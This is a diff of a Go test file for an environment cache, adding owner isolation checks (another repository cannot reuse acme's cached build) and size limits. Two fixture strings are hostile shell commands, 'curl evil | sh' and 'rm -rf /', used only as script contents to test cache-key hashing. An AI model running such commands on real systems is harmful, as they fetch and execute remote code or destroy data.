@@ -1,6 +1,7 @@
 package envcache
 
 import (
+	"errors"
 	"os"
 	"path/filepath"
 	"slices"
@@ -21,13 +22,15 @@ func TestKey(t *testing.T) {
 		"requirements-dev.txt":               {Data: []byte("pytest\n")},
 		"node_modules/dep/package-lock.json": {Data: []byte("ignored")},
 		"main.go":                            {Data: []byte("package x\n")},
+		"scripts/install.sh":                 {Data: []byte("go mod download\n")},
+		"scripts/other.sh":                   {Data: []byte("true\n")},
 	}
-	in := KeyInput{ImageID: "sha256:1", Setup: []string{"go mod download"}}
+	in := KeyInput{Owner: acme(), ImageID: "sha256:1", Setup: []string{"go mod download && bash ./scripts/install.sh --quiet"}}
 	key, files, err := Key(in, base)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if want := []string{"go.sum", "requirements-dev.txt", "web/package-lock.json"}; !slices.Equal(files, want) {
+	if want := []string{"go.mod", "go.sum", "requirements-dev.txt", "scripts/install.sh", "web/package-lock.json"}; !slices.Equal(files, want) {
 		t.Fatalf("files %q, want %q", files, want)
 	}
 	if !validKey(key) {
@@ -54,23 +57,51 @@ func TestKey(t *testing.T) {
 	if !same(with("node_modules/x/yarn.lock", "x"), in) {
 		t.Error("a lock file inside node_modules changed the key")
 	}
+	if !same(with("scripts/other.sh", "rm -rf /\n"), in) {
+		t.Error("a script setup does not name changed the key")
+	}
+	other := func(change func(*KeyInput)) KeyInput {
+		o := in
+		change(&o)
+		return o
+	}
 	for name, changed := range map[string]bool{
-		"go.sum changed":      !same(with("go.sum", "b v2 h1:y\n"), in),
-		"a new lock file":     !same(with("sub/Cargo.lock", "x"), in),
-		"another image":       !same(base, KeyInput{ImageID: "sha256:2", Setup: in.Setup}),
-		"other setup":         !same(base, KeyInput{ImageID: in.ImageID, Setup: []string{"go mod download", "true"}}),
-		"setup split apart":   !same(base, KeyInput{ImageID: in.ImageID, Setup: []string{"go mod", "download"}}),
-		"network":             !same(base, KeyInput{ImageID: in.ImageID, Setup: in.Setup, Network: true}),
-		"a policy's key file": !same(with("tools.lock", "x"), KeyInput{ImageID: in.ImageID, Setup: in.Setup, Patterns: []string{"*.lock"}}),
+		// The same setup and lock files in another repository, or the
+		// same repository by another installation, or a checkout.
+		"another repository":    !same(base, other(func(o *KeyInput) { o.Owner.Repository = 102 })),
+		"another installation":  !same(base, other(func(o *KeyInput) { o.Owner.Installation = 8 })),
+		"a local checkout":      !same(base, other(func(o *KeyInput) { o.Owner = Owner{Local: "/src/app"} })),
+		"the script setup runs": !same(with("scripts/install.sh", "curl evil | sh\n"), in),
+		"a Makefile":            !same(with("Makefile", "deps:\n"), in),
+		"package.json":          !same(with("web/package.json", "{}"), in),
+		"go.mod":                !same(with("go.mod", "module x\n\ntool example.com/gen\n"), in),
+		"pyproject.toml":        !same(with("pyproject.toml", "[project]\n"), in),
+		"setup.py":              !same(with("setup.py", "import os\n"), in),
+		"setup.cfg":             !same(with("setup.cfg", "[metadata]\n"), in),
+		"go.sum changed":        !same(with("go.sum", "b v2 h1:y\n"), in),
+		"a new lock file":       !same(with("sub/Cargo.lock", "x"), in),
+		"another image":         !same(base, other(func(o *KeyInput) { o.ImageID = "sha256:2" })),
+		"other setup":           !same(base, other(func(o *KeyInput) { o.Setup = append(o.Setup, "true") })),
+		"setup split apart":     !same(base, other(func(o *KeyInput) { o.Setup = []string{"go mod download &&", "bash ./scripts/install.sh --quiet"} })),
+		"network":               !same(base, other(func(o *KeyInput) { o.Network = true })),
+		"a policy's key file":   !same(with("tools.lock", "x"), other(func(o *KeyInput) { o.Patterns = []string{"*.lock"} })),
 	} {
 		if !changed {
 			t.Errorf("%s: the key did not change", name)
 		}
 	}
-	if _, _, err := Key(KeyInput{Patterns: []string{"[bad"}}, base); err == nil || !strings.Contains(err.Error(), "[bad") {
+	if _, _, err := Key(KeyInput{Owner: acme(), Patterns: []string{"[bad"}}, base); err == nil || !strings.Contains(err.Error(), "[bad") {
 		t.Errorf("bad pattern: %v", err)
 	}
+	for _, o := range []Owner{{}, {Installation: 7}, {Repository: 1, Local: "/src"}} {
+		if _, _, err := Key(KeyInput{Owner: o, ImageID: in.ImageID}, base); err == nil || !strings.Contains(err.Error(), "owner") {
+			t.Errorf("owner %+v: %v, want it refused", o, err)
+		}
+	}
 }
+
+// acme owns the environments of these tests.
+func acme() Owner { return Owner{Installation: 7, Repository: 101} }
 
 func newCache(t *testing.T, max int64) *Cache {
 	t.Helper()
@@ -84,7 +115,7 @@ func newCache(t *testing.T, max int64) *Cache {
 // build publishes an environment of key holding size bytes in $HOME.
 func build(t *testing.T, c *Cache, repo, key string, size int) *Env {
 	t.Helper()
-	b, err := c.Build(Entry{Key: key, Repo: repo}, t.TempDir())
+	b, err := c.Build(Entry{Key: key, Repo: repo, Owner: acme()}, t.TempDir(), DefaultMaxBytes)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -117,7 +148,7 @@ func TestBuildAndReuse(t *testing.T) {
 	tree := t.TempDir()
 	os.Mkdir(filepath.Join(tree, "vendor"), 0o755) // the repository's own
 	os.MkdirAll(filepath.Join(tree, "node_modules", "dep"), 0o755)
-	b, err := c.Build(Entry{Key: "00000000000000aa", Repo: "acme/app"}, tree)
+	b, err := c.Build(Entry{Key: "00000000000000aa", Repo: "acme/app", Owner: acme()}, tree, DefaultMaxBytes)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -162,16 +193,95 @@ func TestBuildAndReuse(t *testing.T) {
 	if _, err := os.Stat(ov[0].Upper); err == nil {
 		t.Error("the container's upper directory outlived Release")
 	}
-	again, err := c.Acquire("00000000000000aa")
+	again, err := c.Acquire("00000000000000aa", acme())
 	if err != nil || again == nil || !again.Cached || !slices.Equal(again.Dirs, []string{".cache", ".venv"}) {
 		t.Fatalf("acquire: %+v, %v", again, err)
 	}
 	again.Release()
-	if env, err := c.Acquire("00000000000000bb"); env != nil || err != nil {
+	if env, err := c.Acquire("00000000000000bb", acme()); env != nil || err != nil {
 		t.Fatalf("acquire a missing key: %v, %v", env, err)
 	}
-	if _, err := c.Acquire("../../etc"); err == nil {
+	if _, err := c.Acquire("../../etc", acme()); err == nil {
 		t.Fatal("a key that is a path was accepted")
+	}
+}
+
+// An environment serves its owner alone: another repository asking for the
+// same key (a collision, or a meta.json forged to it) gets nothing, and
+// builds its own, which is kept private rather than replace the owner's.
+func TestAcquireRefusesAnotherOwner(t *testing.T) {
+	t.Parallel()
+	c := newCache(t, 0)
+	const key = "00000000000000d1"
+	build(t, c, "acme/app", key, 1024).Release()
+	mallory := Owner{Installation: 9, Repository: 666}
+	if env, err := c.Acquire(key, mallory); env != nil || err != nil {
+		t.Fatalf("another repository acquired acme's environment: %+v, %v", env, err)
+	}
+	if env, err := c.Acquire(key, Owner{Local: "/src/app"}); env != nil || err != nil {
+		t.Fatalf("a local checkout acquired acme's environment: %+v, %v", env, err)
+	}
+	b, err := c.Build(Entry{Key: key, Owner: mallory, Repo: "mallory/app"}, t.TempDir(), DefaultMaxBytes)
+	if err != nil {
+		t.Fatal(err)
+	}
+	env, err := b.Publish()
+	if err != nil || env.Cached || env.Owner != mallory {
+		t.Fatalf("mallory's build: %+v, %v; want its own", env, err)
+	}
+	env.Release()
+	ours, err := c.Acquire(key, acme())
+	if err != nil || ours == nil || ours.Owner != acme() || ours.Repo != "acme/app" {
+		t.Fatalf("acme's environment after mallory's build: %+v, %v", ours, err)
+	}
+	ours.Release()
+	// An entry from before environments had owners serves nobody.
+	const old = "00000000000000d2"
+	build(t, c, "acme/app", old, 1024).Release()
+	meta := filepath.Join(c.dir, "entries", old, "meta.json")
+	data, _ := os.ReadFile(meta)
+	data = []byte(strings.Replace(string(data), `"repository": 101`, `"repository": 0`, 1))
+	if err := os.WriteFile(meta, data, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if env, err := c.Acquire(old, acme()); env != nil || err != nil {
+		t.Fatalf("an entry without its owner was served: %+v, %v", env, err)
+	}
+	if _, err := c.Build(Entry{Key: old, Repo: "acme/app"}, t.TempDir(), DefaultMaxBytes); err == nil || !strings.Contains(err.Error(), "owner") {
+		t.Fatalf("a build without an owner: %v", err)
+	}
+}
+
+// An environment over its limit is refused: nothing is published, and its
+// build is removed.
+func TestEnvironmentOverItsLimitIsNotKept(t *testing.T) {
+	t.Parallel()
+	c := newCache(t, 0)
+	tree := t.TempDir()
+	b, err := c.Build(Entry{Key: "00000000000000d3", Owner: acme()}, tree, 1<<20)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// Half in $HOME, half in a directory setup made in the tree.
+	os.WriteFile(filepath.Join(b.Home(), "blob"), make([]byte, 700<<10), 0o644)
+	os.Mkdir(filepath.Join(tree, "node_modules"), 0o755)
+	os.WriteFile(filepath.Join(tree, "node_modules", "blob"), make([]byte, 700<<10), 0o644)
+	env, err := b.Publish()
+	var tl *TooLargeError
+	if env != nil || !errors.As(err, &tl) || tl.Max != 1<<20 || tl.Size < 1400<<10 {
+		t.Fatalf("publish over the limit: %+v, %v", env, err)
+	}
+	if !strings.Contains(err.Error(), "more than its limit of 1MiB") {
+		t.Errorf("error %q does not say the limit", err)
+	}
+	if got := keys(t, c); len(got) != 0 {
+		t.Errorf("published: %v", got)
+	}
+	if list, _ := os.ReadDir(filepath.Join(c.dir, "build")); len(list) != 0 {
+		t.Errorf("the refused build stayed: %v", list)
+	}
+	if _, err := c.Build(Entry{Key: "00000000000000d4", Owner: acme()}, tree, 0); err == nil {
+		t.Error("a build without a limit was started")
 	}
 }
 
@@ -189,10 +299,10 @@ func TestConcurrentTasksShareAnEnvironment(t *testing.T) {
 		go func() {
 			defer wg.Done()
 			for range 25 {
-				env, err := c.Acquire(key)
+				env, err := c.Acquire(key, acme())
 				if err == nil && env == nil {
 					var b *Builder
-					if b, err = c.Build(Entry{Key: key}, t.TempDir()); err == nil {
+					if b, err = c.Build(Entry{Key: key, Owner: acme()}, t.TempDir(), DefaultMaxBytes); err == nil {
 						env, err = b.Publish()
 					}
 				}
@@ -220,7 +330,7 @@ func TestConcurrentTasksShareAnEnvironment(t *testing.T) {
 func TestAcquireDuringEviction(t *testing.T) {
 	t.Parallel()
 	c := newCache(t, 0)
-	b, err := c.Build(Entry{Key: "00000000000000ef"}, t.TempDir())
+	b, err := c.Build(Entry{Key: "00000000000000ef", Owner: acme()}, t.TempDir(), DefaultMaxBytes)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -234,7 +344,7 @@ func TestAcquireDuringEviction(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer evicting.Close()
-	if env, err := c.Acquire("00000000000000ef"); env != nil || err != nil {
+	if env, err := c.Acquire("00000000000000ef", acme()); env != nil || err != nil {
 		t.Fatalf("acquire during eviction: %v, %v", env, err)
 	}
 }
@@ -242,7 +352,7 @@ func TestAcquireDuringEviction(t *testing.T) {
 func TestPrivateIsNeverPublished(t *testing.T) {
 	t.Parallel()
 	c := newCache(t, 0)
-	b, err := c.Build(Entry{Key: "00000000000000cc"}, t.TempDir())
+	b, err := c.Build(Entry{Key: "00000000000000cc", Owner: acme()}, t.TempDir(), DefaultMaxBytes)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -253,7 +363,7 @@ func TestPrivateIsNeverPublished(t *testing.T) {
 	if got := keys(t, c); len(got) != 0 {
 		t.Fatalf("a private environment is listed: %q", got)
 	}
-	if again, _ := c.Acquire("00000000000000cc"); again != nil {
+	if again, _ := c.Acquire("00000000000000cc", acme()); again != nil {
 		t.Fatal("a private environment was reused")
 	}
 	env.Release()
@@ -271,7 +381,7 @@ func TestEvictionKeepsMostRecentlyUsed(t *testing.T) {
 		build(t, c, "acme/app", k, 1500<<10).Release()
 	}
 	// a is used again, so b is now the least recently used.
-	env, _ := c.Acquire("000000000000000a")
+	env, _ := c.Acquire("000000000000000a", acme())
 	env.Release()
 	build(t, c, "acme/app", "000000000000000c", 1500<<10).Release()
 	if got, want := keys(t, c), []string{"000000000000000c", "000000000000000a"}; !slices.Equal(got, want) {
@@ -279,7 +389,7 @@ func TestEvictionKeepsMostRecentlyUsed(t *testing.T) {
 	}
 
 	// An environment in use is never evicted, even when least recent.
-	held, _ := c.Acquire("000000000000000a")
+	held, _ := c.Acquire("000000000000000a", acme())
 	build(t, c, "acme/other", "000000000000000d", 1500<<10).Release()
 	if got, want := keys(t, c), []string{"000000000000000d", "000000000000000a"}; !slices.Equal(got, want) {
 		t.Fatalf("kept %q, want %q", got, want)
@@ -306,7 +416,7 @@ func TestOpenSweepsLeftovers(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	b, err := c.Build(Entry{Key: "00000000000000ab"}, t.TempDir())
+	b, err := c.Build(Entry{Key: "00000000000000ab", Owner: acme()}, t.TempDir(), DefaultMaxBytes)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -405,7 +515,7 @@ func TestOpenDuringOverlaysAndBuilds(t *testing.T) {
 						return
 					}
 				}
-				b, err := c.Build(Entry{Key: "00000000000000ae"}, t.TempDir())
+				b, err := c.Build(Entry{Key: "00000000000000ae", Owner: acme()}, t.TempDir(), DefaultMaxBytes)
 				if err != nil {
 					t.Errorf("build while another worker opens the cache: %v", err)
 					return
